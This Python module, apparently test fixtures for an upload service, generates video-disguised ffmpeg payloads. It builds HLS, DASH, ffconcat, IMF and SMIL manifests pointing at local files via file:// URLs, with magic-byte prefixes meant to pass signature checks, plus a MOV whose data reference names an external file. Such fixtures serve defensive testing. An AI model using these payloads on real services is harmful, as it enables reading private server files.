"""Files made to trick ffmpeg into reading another file: manifests, playlists and scripts of
every kind ffmpeg can open, and a MOV whose data lives elsewhere, each dressed as a video.

Each begins with bytes that pass the upload's signature check where its format allows
(an XML comment whose second word is an ISO BMFF box type, or an EBML magic), as an
attacker would make them; the formats that must begin with their own magic (HLS,
ffconcat) are made as they are.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path

# What makes the first bytes pass for each accepted container: "<!--" is the first box's
# size, "wide" its type; the EBML magic opens every Matroska file; "<!--" is the RIFF
# chunk's size; "G" is a transport stream's sync byte, at the start of each 188-byte packet.
DISGUISE = {"bmff": b"<!--wide-->\n", "ebml": b"\x1a\x45\xdf\xa3<!-- -->\n",
            "riff": b"RIFF<!--AVI -->\n", "mpegts": (b"G" + b" " * 187) * 3 + b"\n"}


def dash(target: Path) -> bytes:
    return f"""<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"
 profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" mediaPresentationDuration="PT2S" minBufferTime="PT1S">
 <Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="100000">
  <BaseURL>file://{target}</BaseURL>
 </Representation></AdaptationSet></Period>
</MPD>
""".encode()


def hls(target: Path) -> bytes:
    return (f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXTINF:2.0,\nfile://{target}\n"
            "#EXT-X-ENDLIST\n").encode()


def ffconcat(target: Path) -> bytes:
    return f"ffconcat version 1.0\nfile '{target}'\n".encode()


def imf(target: Path) -> bytes:
    return f"""<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2013">
 <Id>urn:uuid:00000000-0000-0000-0000-000000000001</Id><EditRate>25 1</EditRate>
 <SegmentList><Segment><SequenceList><MainImageSequence><ResourceList>
  <Resource><TrackFileId>urn:uuid:00000000-0000-0000-0000-000000000002</TrackFileId>
   <EditRate>25 1</EditRate><IntrinsicDuration>50</IntrinsicDuration></Resource>
 </ResourceList></MainImageSequence></SequenceList></Segment></SegmentList>
 <!-- {target} -->
</CompositionPlaylist>
""".encode()


def smil(target: Path) -> bytes:
    return f'<smil><body><video src="file://{target}"/></body></smil>\n'.encode()


TEXT_KINDS: dict[str, Callable[[Path], bytes]] = {
    "dash": dash, "hls": hls, "ffconcat": ffconcat, "imf": imf, "smil": smil}
MAGIC_FIRST = {"hls", "ffconcat"}  # their readers look for their magic at byte 0


def manifest(kind: str, target: Path, container: str) -> bytes:
    """A manifest of that kind naming target, dressed as that container where it can be."""
    text = TEXT_KINDS[kind](target)
    return text if kind in MAGIC_FIRST else DISGUISE[container] + text


_CONTAINER_BOXES = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def _with_data_reference(boxes: bytes, target: bytes) -> bytes:
    """The boxes, each track's data reference pointing at target instead of this file."""
    out = b""
    at = 0
    while at < len(boxes):
        size, kind = struct.unpack_from(">I4s", boxes, at)
        body = boxes[at + 8: at + size]
        if kind in _CONTAINER_BOXES:
            body = _with_data_reference(body, target)
        elif kind == b"dref":
            # version and flags 0: the samples are not in this file but at the location given
            location = b"\0\0\0\0" + target + b"\0"
            body = body[:4] + struct.pack(">I", 1) + struct.pack(">I4s", 8 + len(location), b"url ") + location
        out += struct.pack(">I4s", 8 + len(body), kind) + body
        at += size
    return out


def external_reference(clip: Path, target: Path) -> bytes:
    """clip (index last, so its sample offsets survive a bigger index) with its samples
    zeroed and its data reference naming target: only target could give it a picture."""
    data = clip.read_bytes()
    mdat, moov = data.index(b"mdat") - 4, data.index(b"moov") - 4
    assert mdat < moov, "the index must come last"
    (mdat_size,) = struct.unpack_from(">I", data, mdat)
    blank = data[:mdat + 8] + bytes(mdat_size - 8) + data[mdat + mdat_size:]
    return _with_data_reference(blank, str(target).encode())
